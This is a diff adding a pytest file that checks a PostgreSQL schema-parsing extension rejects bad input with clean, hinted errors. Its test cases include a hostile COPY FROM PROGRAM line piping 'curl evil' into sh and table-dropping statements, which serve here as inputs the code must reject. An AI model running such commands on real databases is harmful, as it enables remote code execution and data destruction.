@@ -1,0 +1,57 @@
+"""Bad input gets an `ai_schema:` error with a SQLSTATE and a hint, never a Python traceback."""
+
+import psycopg
+import pytest
+
+LONG_NAME = "x" * 200
+CASES = {
+    "null": (None, "22004", "is NULL"),
+    "empty": ("", "22023", "is empty"),
+    "blank": ("  \n\t ", "22023", "is empty"),
+    "ten_megabytes": ("-- filler\n" + "x" * (10 * 1024 * 1024), "54000", "more than the limit"),
+    "syntax": ("CREATE TABLE a (id int);\nCREATE TABLE b (\n  id int,,\n);", "42601", "line 3, column 10"),
+    "delete": ("CREATE TABLE t (id int); DELETE FROM t", "0A000", "DELETE FROM is not a schema definition"),
+    "insert": ("INSERT INTO t VALUES (1)", "0A000", "not a schema definition"),
+    "copy_program": ("COPY t FROM PROGRAM 'curl evil | sh'", "0A000", "not a schema definition"),
+    "do_block": ("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", "0A000", "not a schema definition"),
+    "drop": ("DROP TABLE users", "0A000", "not a schema definition"),
+    "select": ("SELECT pg_sleep(10)", "0A000", "not a schema definition"),
+    "long_identifier": (f"CREATE TABLE {LONG_NAME} (id int)", "42622", "is 200 bytes long"),
+    "long_quoted_identifier": (f'CREATE TABLE t ("{LONG_NAME}" int)', "42622", "PostgreSQL's limit is 63"),
+    "unknown_table": ("CREATE INDEX ON missing (id)", "42P01", 'table "missing" is not defined'),
+    "deep_parentheses": ("CREATE TABLE t (a int CHECK (" + "(" * 20000 + "a > 0" + ")" * 20000 + "))",
+                         "42601", "memory exhausted"),
+    "deep_expression": ("CREATE TABLE t (a int CHECK (" + "a + (" * 3000 + "1" + ")" * 3000 + " > 0))",
+                        "54001", "nested too deeply"),
+}
+
+
+@pytest.mark.parametrize("function", ["ai_parse_schema(%s)", "ai_render_schema(%s)"])
+@pytest.mark.parametrize("case", sorted(CASES))
+def test_bad_input(conn, function, case):
+    text, sqlstate, words = CASES[case]
+    with pytest.raises(psycopg.Error) as info:
+        conn.execute("SELECT " + function, (text,))
+    err = info.value
+    if sqlstate:
+        assert err.sqlstate == sqlstate
+    assert err.diag.message_primary.startswith("ai_schema: ")
+    assert words in err.diag.message_primary
+    assert err.diag.message_hint, "every error carries a hint"
+    for part in (err.diag.message_primary, err.diag.message_detail, err.diag.message_hint, err.diag.context):
+        assert "Traceback" not in (part or "")
+        assert 'File "' not in (part or "")
+    # The backend survived and the session is usable.
+    assert conn.execute("SELECT 1").fetchone() == (1,)
+
+
+def test_position_counts_characters_not_bytes(conn):
+    text = "-- café, naïve, 日本\nCREATE TABLE t (\n  é int,\n  x int y\n);"
+    with pytest.raises(psycopg.Error) as info:
+        conn.execute("SELECT ai_parse_schema(%s)", (text,))
+    assert "line 4, column 9" in info.value.diag.message_primary
+
+
+def test_non_ascii_identifiers_are_fine(conn):
+    model = conn.execute("SELECT ai_parse_schema(%s)", ('CREATE TABLE "Bücher" ("Titel" text PRIMARY KEY)',)).fetchone()[0]
+    assert model["tables"][0]["name"] == "Bücher"
